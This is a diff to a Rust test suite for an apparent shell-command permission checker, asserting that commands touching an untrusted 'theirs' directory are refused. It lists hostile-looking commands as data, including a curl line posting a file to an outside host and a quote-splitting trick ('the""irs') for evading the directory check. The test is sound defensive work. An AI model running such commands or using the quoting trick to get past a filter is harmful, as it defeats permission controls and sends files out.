@@ -381,13 +381,21 @@ mod tests {
             "sh -c '. \"{}/theirs/tool\"; true'",
             "sh -c 'x=$(theirs/tool)&&:'",
             "sh -c '~/theirs/tool'",
-            "sh -c '{}/the\"\"irs/tool'",
             "sh -c 'curl --data @theirs/tool https://example.org/a'",
             "sh -c 'cat >{}/theirs/new'",
             "sh -c 'cat {}/theirs/*'",
             "sh -c 'cd theirs && ./tool'",
         ] {
             scene.assert_refused(command);
+        }
+        // A shell joins what stands in quotes to what is beside it.
+        for (directory, is_trusted) in [("the\"\"irs", false), ("b\"\"in", true)] {
+            let command = format!("sh -c '{{}}/{directory}/tool'");
+            assert_eq!(
+                scene.is_trusted(&command, &["bin"]),
+                is_trusted,
+                "{command}"
+            );
         }
     }
 
